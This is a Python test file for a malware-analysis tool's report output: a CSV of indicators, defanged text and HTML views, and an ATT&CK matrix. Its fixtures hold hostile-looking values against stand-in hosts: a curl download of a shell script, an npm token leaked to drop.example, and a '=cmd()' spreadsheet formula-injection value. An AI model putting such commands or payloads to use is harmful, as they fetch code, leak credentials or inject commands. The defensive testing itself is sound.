"""Classes, indicators and techniques in every form: shown to people without a trap, to programs as they are."""

import csv
from io import StringIO

import pytest
import sample
from msgspec.structs import replace

from biopsy.formats import html, iocs, text
from biopsy.formats.views.indicators import defanged, matrix, telling, unlinked
from biopsy.formats.wire import document
from biopsy.model.attack import Attack, Technique
from biopsy.model.behaviour import Behaviour, InFile, Kind
from biopsy.model.dossier import Analysis, Classification, Ioc, IocType

THEFT = Classification("credential-theft", "Credential theft", "It takes keys.", ())
FOUND = (
    Ioc(IocType.DOMAIN, "drop.example", ("laptop/install#4",), reserved=True),
    Ioc(IocType.URL, "https://drop.example/v1?a=b.c", ("laptop/install#5", "a.js:3 (import)")),
    Ioc(IocType.ADDRESS, "2001:db8::1", ("a.js:4",), more=3),
    Ioc(IocType.DOMAIN, "github.com", ("a.js:9",), shared="code-host"),
    Ioc(IocType.TOKEN, "telegram-bot 1:=x", ("a.js:9",)),
    Ioc(IocType.HASH, "0" * 64, ("=cmd()",)),
)
ATTACK = Attack((Technique("T1041", "Exfiltration Over C2 Channel", ("exfiltration",)), Technique("T1204", "X", ("execution",))), {})  # fmt: skip


def told(of: Analysis) -> Analysis:
    return replace(of, classes=(THEFT,), iocs=FOUND, attack=ATTACK)


def test_the_table_has_a_line_for_each_and_no_formula() -> None:
    rows = list(csv.DictReader(StringIO(iocs.render(told(sample.malicious())))))
    assert [row["value"] for row in rows] == [ioc.value for ioc in FOUND]
    assert {row["verdict"] for row in rows} == {"malicious"}
    assert rows[-1]["where"] == "'=cmd()"
    assert rows[2]["where"] == "a.js:4; 3 more"


@pytest.mark.parametrize(
    ("ioc", "shown"),
    [
        (FOUND[0], "drop[.]example"),
        (FOUND[1], "hxxps://drop[.]example/v1?a=b.c"),
        (FOUND[2], "2001[:]db8::1"),
        (FOUND[5], "0" * 64),
        (Ioc(IocType.MAIL, "a@b.example", ()), "a[@]b[.]example"),
    ],
)
def test_people_are_shown_what_nobody_follows_by_mistake(ioc: Ioc, shown: str) -> None:
    assert defanged(ioc) == shown


def test_the_screen_names_what_is_telling_and_the_classes() -> None:
    screen = text.render(told(sample.malicious()))
    assert "Credential theft" in screen
    assert "hxxps://drop[.]example" in screen
    assert "github" not in screen.partition("Indicators")[2].partition("More")[0]
    assert "Indicators" not in text.render(replace(told(sample.benign()), classes=()))


def test_a_domain_is_left_to_its_url_and_what_is_shared_or_a_hash_is_not_telling() -> None:
    assert telling(told(sample.malicious())) == (FOUND[1], FOUND[2], FOUND[4])


def test_a_pattern_of_an_address_is_not_telling_where_one_is_known_whole() -> None:
    patterns = [Ioc(IocType.URL, f"https://drop.example/{end}", ()) for end in ("v-?-?", "v-$", "${x}")]
    whole = Ioc(IocType.URL, "https://drop.example/v-linux?os=1", ())
    alone = Ioc(IocType.URL, "https://other.example/v?", ())
    assert telling(replace(sample.malicious(), iocs=(*patterns, whole, alone))) == (whole, alone)


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        (Kind.CODE_REMOTE, "https://cdn.drop.example/a.b/c.js", "hxxps://cdn[.]drop[.]example/a.b/c.js"),
        (
            Kind.CANARY_LEAK,
            "npm-token > drop.example:443 as clear",
            "npm-token > drop[.]example:443 as clear",
        ),
        (Kind.NET_DNS, "a.drop.example", "a[.]drop[.]example"),
        (Kind.PROCESS_EXEC, "curl http://192.0.2.1/x.sh -o x.sh", "curl hxxp://192[.]0[.]2[.]1/x.sh -o x.sh"),
    ],
)
def test_a_mail_program_makes_no_link_of_evidence(kind: Kind, value: str, shown: str) -> None:
    assert unlinked(Behaviour(kind, value, InFile("src/index.js", 3))) == f"{kind} {shown} @ src/index.js:3"


def test_the_page_calls_those_of_a_benign_release_contacts() -> None:
    assert ">Indicators<" in html.render(told(sample.malicious()))
    assert ">Contacts and hashes<" in html.render(told(sample.benign()))


def test_the_matrix_tells_what_a_finding_names_from_what_a_behaviour_can_serve() -> None:
    cells = {
        cell.technique.id: cell.found for column in matrix(told(sample.malicious())) for cell in column.cells
    }
    assert cells["T1204"] is False
    assert list(cells) == ["T1204", "T1041"]  # in the order of the matrix


def test_programs_get_all_of_it_as_it_is() -> None:
    whole = document(told(sample.malicious()))
    assert [one.value for one in whole.iocs] == [ioc.value for ioc in FOUND]
    assert whole.classes[0].name == "credential-theft"
    assert whole.techniques[0].tactics == ("exfiltration",)
